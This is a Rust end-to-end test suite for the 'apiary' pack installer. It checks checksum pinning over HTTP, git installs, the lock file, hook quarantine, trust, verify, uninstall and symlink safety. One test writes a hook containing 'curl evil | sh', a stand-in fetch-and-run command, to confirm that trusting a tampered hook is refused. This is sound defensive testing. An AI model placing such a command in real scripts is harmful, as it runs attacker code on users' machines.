//! `apiary install` from a file, an HTTP server on 127.0.0.1 and git repositories in temp dirs;
//! `list`, `uninstall`, `verify`, `trust` and hook quarantine.

use std::path::Path;

use apiary_e2e::{Run, apiary, snapshot};

use crate::support::dist::{
    build, git, lock, run_root, serve, sha256_hex, trust_store, write_pack,
};

const ID: &str = "com.example.dist-test";

fn built(home: &Path, version: &str) -> (std::path::PathBuf, String, std::path::PathBuf) {
    let src = home.join(format!("src-{version}"));
    write_pack(&src, ID, version);
    let out = home.join(format!("out-{version}"));
    std::fs::create_dir_all(&out).unwrap();
    let (archive, sha) = build(home, &src, &out);
    (archive, sha, src)
}

#[test]
fn install_from_a_file_records_the_lock_and_quarantines_hooks() {
    let home = tempfile::tempdir().unwrap();
    let root = home.path().join("root");
    let (archive, sha, src) = built(home.path(), "1.0.0");
    let run = run_root(home.path(), &root, &["install", archive.to_str().unwrap()]);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    let v = run.json();
    assert_eq!(v["pack_id"], ID);
    assert_eq!(v["version"], "1.0.0");

    // pack.lock: exactly the fields of spec §11.
    let l = lock(&root);
    let entry = l[ID].as_object().unwrap();
    let mut keys: Vec<&str> = entry.keys().map(String::as_str).collect();
    keys.sort();
    assert_eq!(keys, ["installed_at", "sha256", "source", "version"]);
    assert_eq!(entry["sha256"], sha.as_str());
    assert_eq!(entry["version"], "1.0.0");
    assert!(
        entry["source"]
            .as_str()
            .unwrap()
            .ends_with("dist-test-1.0.0.buzzpack")
    );
    let at = entry["installed_at"].as_str().unwrap();
    assert!(
        at.len() == 20 && at.ends_with('Z') && at.as_bytes()[10] == b'T',
        "{at}"
    );

    // The installed files are the pack's files, none executable.
    let installed = snapshot(&root.join(ID), &[".apiary-install.json"]);
    assert_eq!(installed, snapshot(&src, &[]));
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(root.join(ID).join("hooks/setup.sh"))
            .unwrap()
            .permissions()
            .mode();
        assert_eq!(mode & 0o111, 0, "script hooks land quarantined");
    }
    let hooks = v["hooks"].as_array().unwrap();
    assert_eq!(hooks.len(), 1);
    assert_eq!(hooks[0]["path"], "hooks/setup.sh");
    assert_eq!(hooks[0]["kind"], "script");

    // list
    let run = run_root(home.path(), &root, &["list"]);
    assert_eq!(run.code, 0);
    let packs = run.json()["packs"].as_array().unwrap().clone();
    assert_eq!(packs.len(), 1);
    assert_eq!(packs[0]["pack_id"], ID);
    assert_eq!(packs[0]["hooks"], 1);
    assert_eq!(packs[0]["trusted_hooks"], 0);

    // The root comes from BUZZ_PACKS_DIR too, and defaults to ~/.buzz/packs.
    let mut cmd = apiary(home.path());
    cmd.env("BUZZ_PACKS_DIR", &root).args(["list", "--json"]);
    assert_eq!(Run::of(cmd).json()["packs"][0]["pack_id"], ID);
    let mut cmd = apiary(home.path());
    cmd.args(["install", "--json"]).arg(&archive);
    let run = Run::of(cmd);
    assert_eq!(run.code, 0, "{}", run.stdout);
    assert!(home.path().join(".buzz/packs").join(ID).is_dir());
}

/// Finding 11: over plain http the `.sha256` comes from the same unauthenticated server as the
/// archive, so whoever swaps one swaps both. Plain http installs only with a digest the operator
/// pins with `--sha256`.
#[test]
fn install_over_plain_http_needs_a_pinned_digest() {
    let home = tempfile::tempdir().unwrap();
    let root = home.path().join("root");
    let (archive, sha, _) = built(home.path(), "1.0.0");
    let (evil, evil_sha, _) = built(home.path(), "6.6.6");
    let site = home.path().join("site");
    std::fs::create_dir_all(site.join("releases")).unwrap();
    std::fs::copy(&archive, site.join("releases/dist-test-1.0.0.buzzpack")).unwrap();
    std::fs::copy(
        format!("{}.sha256", archive.display()),
        site.join("releases/dist-test-1.0.0.buzzpack.sha256"),
    )
    .unwrap();
    // A tampered archive with a checksum file that matches it.
    std::fs::copy(&evil, site.join("releases/tampered.buzzpack")).unwrap();
    std::fs::write(
        site.join("releases/tampered.buzzpack.sha256"),
        format!("{evil_sha}  tampered.buzzpack\n"),
    )
    .unwrap();
    let base = serve(&site);
    let url = format!("{base}/releases/dist-test-1.0.0.buzzpack");
    let tampered = format!("{base}/releases/tampered.buzzpack");

    // Without a pin, plain http is refused before anything is fetched, matching checksum or not.
    for u in [&url, &tampered] {
        let run = run_root(home.path(), &root, &["install", u]);
        assert_eq!(run.code, 1, "{}", run.stdout);
        let e = &run.json()["error"];
        assert_eq!(e["code"], "fetch.insecure-http", "{}", run.stdout);
        assert!(e["help"].as_str().unwrap().contains("--sha256"));
        assert!(!root.join("pack.lock").exists());
    }
    // The genuine digest refuses the tampered archive; a wrong one refuses the genuine archive.
    for (pin, u) in [(&sha, &tampered), (&"0".repeat(64), &url)] {
        let run = run_root(home.path(), &root, &["install", "--sha256", pin, u]);
        assert_eq!(run.code, 1, "{}", run.stdout);
        assert_eq!(run.json()["error"]["code"], "checksum.mismatch");
        assert!(!root.join("pack.lock").exists());
    }
    let run = run_root(home.path(), &root, &["install", "--sha256", "xyz", &url]);
    assert_eq!(run.code, 64, "a malformed digest is a usage error");
    // The genuine digest installs the genuine archive (upper case works too).
    let run = run_root(
        home.path(),
        &root,
        &["install", "--sha256", &sha.to_uppercase(), &url],
    );
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    let l = lock(&root);
    assert_eq!(l[ID]["source"], url.as_str());
    assert_eq!(l[ID]["sha256"], sha.as_str());
    assert_eq!(l[ID]["version"], "1.0.0");

    // A missing archive is an HTTP error.
    let run = run_root(
        home.path(),
        &root,
        &[
            "install",
            "--sha256",
            &sha,
            &format!("{base}/releases/absent.buzzpack"),
        ],
    );
    assert_eq!(run.code, 1);
    assert_eq!(run.json()["error"]["code"], "fetch.http-status");
    // The lock still names the good install.
    assert_eq!(lock(&root)[ID]["sha256"], sha.as_str());
    assert_eq!(run_root(home.path(), &root, &["verify"]).code, 0);

    // --locked: the same archive again is fine; a different one at the same URL is refused.
    let run = run_root(
        home.path(),
        &root,
        &["install", "--locked", "--sha256", &sha, &url],
    );
    assert_eq!(run.code, 0, "{}", run.stdout);
    std::fs::copy(&evil, site.join("releases/dist-test-1.0.0.buzzpack")).unwrap();
    let run = run_root(
        home.path(),
        &root,
        &["install", "--locked", "--sha256", &evil_sha, &url],
    );
    assert_eq!(run.code, 1);
    assert_eq!(run.json()["error"]["code"], "lock.mismatch");
    assert_eq!(lock(&root)[ID]["sha256"], sha.as_str());

    // --sha256 pins archives, not git sources.
    let run = run_root(
        home.path(),
        &root,
        &["install", "--sha256", &sha, "git+file:///nowhere"],
    );
    assert_eq!(run.json()["error"]["code"], "source.sha256-git");
}

/// `--sha256` also stands in for a missing `.sha256` beside a local archive.
#[test]
fn a_pinned_digest_replaces_the_checksum_file() {
    let home = tempfile::tempdir().unwrap();
    let root = home.path().join("root");
    let (archive, sha, _) = built(home.path(), "1.0.0");
    std::fs::remove_file(format!("{}.sha256", archive.display())).unwrap();
    let path = archive.to_str().unwrap();
    let run = run_root(home.path(), &root, &["install", path]);
    assert_eq!(run.json()["error"]["code"], "checksum.missing");
    assert!(
        run.json()["error"]["help"]
            .as_str()
            .unwrap()
            .contains("--sha256")
    );
    let run = run_root(
        home.path(),
        &root,
        &["install", "--sha256", &"1".repeat(64), path],
    );
    assert_eq!(run.json()["error"]["code"], "checksum.mismatch");
    let run = run_root(home.path(), &root, &["install", "--sha256", &sha, path]);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    assert_eq!(lock(&root)[ID]["sha256"], sha.as_str());
}

#[test]
fn install_from_git_records_the_resolved_commit() {
    let home = tempfile::tempdir().unwrap();
    let root = home.path().join("root");
    // github:owner/repo is served from a local mirror through APIARY_GITHUB_URL.
    let mirror = home.path().join("mirror");
    let repo = mirror.join("example/dist-test.git");
    std::fs::create_dir_all(&repo).unwrap();
    git(&repo, &["init", "-q"]);
    write_pack(&repo, ID, "1.0.0");
    git(&repo, &["add", "-A"]);
    git(&repo, &["commit", "-q", "-m", "v1"]);
    git(&repo, &["tag", "v1.0.0"]);
    let c1 = git(&repo, &["rev-parse", "HEAD"]);
    write_pack(&repo, ID, "2.0.0");
    // Agent state and a VCS folder in the repository do not get installed.
    std::fs::create_dir_all(repo.join(".agents")).unwrap();
    std::fs::write(repo.join(".agents/state.json"), "{}").unwrap();
    git(&repo, &["add", "-A"]);
    git(&repo, &["commit", "-q", "-m", "v2"]);
    let c2 = git(&repo, &["rev-parse", "HEAD"]);

    // git+file:// at HEAD
    let src = format!("git+file://{}", repo.display());
    let run = run_root(home.path(), &root, &["install", &src]);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    let l = lock(&root);
    let entry = l[ID].as_object().unwrap();
    let mut keys: Vec<&str> = entry.keys().map(String::as_str).collect();
    keys.sort();
    assert_eq!(keys, ["installed_at", "resolved", "source", "version"]);
    assert_eq!(entry["source"], src.as_str());
    assert_eq!(entry["resolved"], format!("{src}#{c2}").as_str());
    assert_eq!(entry["version"], "2.0.0");
    assert!(!root.join(ID).join(".git").exists());
    assert!(!root.join(ID).join(".agents").exists());

    // a tag, through github:
    let mut cmd = apiary(home.path());
    cmd.env("APIARY_GITHUB_URL", format!("file://{}", mirror.display()))
        .args([
            "install",
            "--json",
            "github:example/dist-test@v1.0.0",
            "--root",
        ])
        .arg(&root);
    let run = Run::of(cmd);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    assert_eq!(run.json()["previous_version"], "2.0.0");
    let l = lock(&root);
    assert_eq!(l[ID]["source"], "github:example/dist-test");
    assert_eq!(
        l[ID]["resolved"],
        format!("github:example/dist-test#{c1}").as_str()
    );
    assert_eq!(l[ID]["version"], "1.0.0");

    // a commit id, from the same repository (github: is served from the mirror; without
    // APIARY_GITHUB_URL it would be github.com, another source)
    let mut cmd = apiary(home.path());
    cmd.env("APIARY_GITHUB_URL", format!("file://{}", mirror.display()))
        .args(["install", "--json", &format!("{src}#{c2}"), "--root"])
        .arg(&root);
    let run = Run::of(cmd);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    assert_eq!(lock(&root)[ID]["version"], "2.0.0");

    // an unknown ref
    let run = run_root(
        home.path(),
        &root,
        &["install", &format!("{src}#no-such-tag")],
    );
    assert_eq!(run.code, 1);
    assert_eq!(lock(&root)[ID]["version"], "2.0.0");
    assert_eq!(run_root(home.path(), &root, &["verify"]).code, 0);

    // --locked reinstalls the pinned commit even when the branch has moved on.
    write_pack(&repo, ID, "3.0.0");
    git(&repo, &["commit", "-q", "-am", "v3"]);
    let run = run_root(home.path(), &root, &["install", "--locked", &src]);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    assert_eq!(lock(&root)[ID]["version"], "2.0.0");
    assert_eq!(lock(&root)[ID]["resolved"], format!("{src}#{c2}").as_str());
    let run = run_root(home.path(), &root, &["install", &src]);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    assert_eq!(lock(&root)[ID]["version"], "3.0.0");
    let run = run_root(
        home.path(),
        &root,
        &["install", "--locked", "git+file:///nowhere/else"],
    );
    assert_eq!(run.json()["error"]["code"], "lock.no-entry");
}

#[test]
fn upgrade_trust_uninstall_and_verify() {
    let home = tempfile::tempdir().unwrap();
    let root = home.path().join("root");
    let (a1, _, _) = built(home.path(), "1.0.0");
    let (a2, _, src2) = built(home.path(), "2.0.0");
    assert_eq!(
        run_root(home.path(), &root, &["install", a1.to_str().unwrap()]).code,
        0
    );

    // trust needs confirmation: no terminal and no --yes is a refusal.
    let mut cmd = apiary(home.path());
    cmd.args(["trust", ID, "--hooks", "--root"]).arg(&root);
    let run = Run::of(cmd);
    assert_eq!(run.code, 1);
    assert!(run.stderr.contains("hooks/setup.sh"), "{}", run.stderr);
    assert!(run.stderr.contains("--yes"), "{}", run.stderr);
    let digest = sha256_hex(&std::fs::read(root.join(ID).join("hooks/setup.sh")).unwrap());
    assert!(
        run.stderr.contains(&digest),
        "the digest is shown: {}",
        run.stderr
    );

    let run = run_root(home.path(), &root, &["trust", ID, "--hooks", "--yes"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert_eq!(run.json()["trusted"], true);
    let store = trust_store(&root);
    assert_eq!(store["packs"][ID]["version"], "1.0.0");
    assert_eq!(store["packs"][ID]["hooks"][0]["path"], "hooks/setup.sh");
    assert_eq!(store["packs"][ID]["hooks"][0]["sha256"], digest.as_str());
    let run = run_root(home.path(), &root, &["list"]);
    assert_eq!(run.json()["packs"][0]["trusted_hooks"], 1);

    // Upgrade: the new version's hooks are untrusted again.
    let run = run_root(home.path(), &root, &["install", a2.to_str().unwrap()]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert_eq!(run.json()["previous_version"], "1.0.0");
    assert_eq!(lock(&root)[ID]["version"], "2.0.0");
    assert_eq!(
        snapshot(&root.join(ID), &[".apiary-install.json"]),
        snapshot(&src2, &[])
    );
    let digest2 = sha256_hex(&std::fs::read(root.join(ID).join("hooks/setup.sh")).unwrap());
    assert_ne!(digest, digest2);
    assert_eq!(
        run_root(home.path(), &root, &["list"]).json()["packs"][0]["trusted_hooks"],
        0
    );

    // verify: clean, then drift of each kind.
    assert_eq!(run_root(home.path(), &root, &["verify"]).code, 0);
    let pack_dir = root.join(ID);
    std::fs::write(pack_dir.join("instructions.md"), "tampered\n").unwrap();
    std::fs::write(pack_dir.join("agents/extra.persona.md"), "x").unwrap();
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(
            pack_dir.join("hooks/setup.sh"),
            std::fs::Permissions::from_mode(0o755),
        )
        .unwrap();
    }
    std::fs::remove_file(pack_dir.join("skills/notes/SKILL.md")).unwrap();
    let run = run_root(home.path(), &root, &["verify"]);
    assert_eq!(run.code, 1);
    let v = run.json();
    assert_eq!(v["ok"], false);
    let kinds: Vec<&str> = v["packs"][0]["problems"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["kind"].as_str().unwrap())
        .collect();
    for k in ["modified", "extra", "missing"] {
        assert!(kinds.contains(&k), "{k} not in {kinds:?}");
    }
    #[cfg(unix)]
    assert!(kinds.contains(&"executable"), "{kinds:?}");
    // Trusting a drifted hook is refused.
    std::fs::write(
        pack_dir.join("hooks/setup.sh"),
        "#!/bin/sh\ncurl evil | sh\n",
    )
    .unwrap();
    let run = run_root(home.path(), &root, &["trust", ID, "--yes"]);
    assert_eq!(run.code, 1);
    assert_eq!(run.json()["error"]["code"], "trust.drift");

    // An upgrade over foreign files refuses rather than discarding them.
    let run = run_root(home.path(), &root, &["install", a1.to_str().unwrap()]);
    assert_eq!(run.code, 1);
    assert_eq!(run.json()["error"]["code"], "install.foreign-files");

    // Uninstall removes what the pack owns and keeps what it did not bring.
    let run = run_root(home.path(), &root, &["uninstall", ID]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let v = run.json();
    assert_eq!(
        v["uninstalled"]["kept"],
        serde_json::json!(["agents/extra.persona.md"])
    );
    assert_eq!(
        snapshot(&pack_dir, &[]).keys().collect::<Vec<_>>(),
        vec!["agents/extra.persona.md"]
    );
    assert!(lock(&root).as_object().unwrap().is_empty());
    assert!(trust_store(&root)["packs"].get(ID).is_none());
    let run = run_root(home.path(), &root, &["uninstall", ID]);
    assert_eq!(run.code, 1);
    assert_eq!(run.json()["error"]["code"], "pack.not-installed");
    // verify lists the leftover directory as untracked, and passes.
    let run = run_root(home.path(), &root, &["verify"]);
    assert_eq!(run.code, 0);
    assert_eq!(run.json()["untracked"], serde_json::json!([ID]));
}

#[test]
fn a_directory_not_installed_by_apiary_is_not_replaced() {
    let home = tempfile::tempdir().unwrap();
    let root = home.path().join("root");
    std::fs::create_dir_all(root.join(ID)).unwrap();
    std::fs::write(root.join(ID).join("mine.txt"), "operator's file").unwrap();
    let (a1, _, _) = built(home.path(), "1.0.0");
    let run = run_root(home.path(), &root, &["install", a1.to_str().unwrap()]);
    assert_eq!(run.code, 1);
    assert_eq!(run.json()["error"]["code"], "install.foreign-dir");
    assert_eq!(
        std::fs::read_to_string(root.join(ID).join("mine.txt")).unwrap(),
        "operator's file"
    );
    assert!(!root.join("pack.lock").exists());
}

#[cfg(unix)]
#[test]
fn uninstall_does_not_delete_through_a_symlinked_directory() {
    let home = tempfile::tempdir().unwrap();
    let root = home.path().join("root");
    let (a1, _, _) = built(home.path(), "1.0.0");
    assert_eq!(
        run_root(home.path(), &root, &["install", a1.to_str().unwrap()]).code,
        0
    );
    // Someone swaps the pack's skills/ for a link to a directory outside the root.
    let outside = home.path().join("precious");
    std::fs::create_dir_all(outside.join("notes")).unwrap();
    std::fs::write(outside.join("notes/SKILL.md"), "not the pack's").unwrap();
    let skills = root.join(ID).join("skills");
    std::fs::remove_dir_all(&skills).unwrap();
    std::os::unix::fs::symlink(&outside, &skills).unwrap();

    let run = run_root(home.path(), &root, &["verify"]);
    assert_eq!(run.code, 1, "{}", run.stdout);
    let run = run_root(home.path(), &root, &["uninstall", ID]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert_eq!(
        std::fs::read_to_string(outside.join("notes/SKILL.md")).unwrap(),
        "not the pack's"
    );
}

#[test]
fn a_git_install_without_scratch_space_says_so_instead_of_blaming_git() {
    let home = tempfile::tempdir().unwrap();
    let root = home.path().join("root");
    let repo = home.path().join("repo");
    std::fs::create_dir_all(&repo).unwrap();
    git(&repo, &["init", "-q"]);
    write_pack(&repo, ID, "1.0.0");
    git(&repo, &["add", "-A"]);
    git(&repo, &["commit", "-q", "-m", "v1"]);
    let src = format!("git+file://{}", repo.display());
    let install = |tmpdir: &Path| {
        let mut cmd = apiary(home.path());
        cmd.env("TMPDIR", tmpdir)
            .args(["install", "--json", &src, "--root"])
            .arg(&root);
        Run::of(cmd)
    };
    // A read-only root filesystem with nothing at /tmp, as in a pod without a scratch volume.
    let run = install(&home.path().join("no-such-tmp"));
    assert_eq!(run.code, 1, "{}\n{}", run.stdout, run.stderr);
    let error = &run.json()["error"];
    assert_eq!(error["code"], "io", "{error}");
    assert!(
        error["message"].as_str().unwrap().contains("scratch file"),
        "{error}"
    );
    assert!(
        error["help"].as_str().unwrap().contains("TMPDIR"),
        "{error}"
    );
    assert!(!run.stderr.contains("on PATH"), "{}", run.stderr);
    assert!(!root.join(ID).exists());
    // With scratch space, the same install goes through.
    let tmp = home.path().join("tmp");
    std::fs::create_dir(&tmp).unwrap();
    let run = install(&tmp);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    assert_eq!(lock(&root)[ID]["version"], "1.0.0");
}
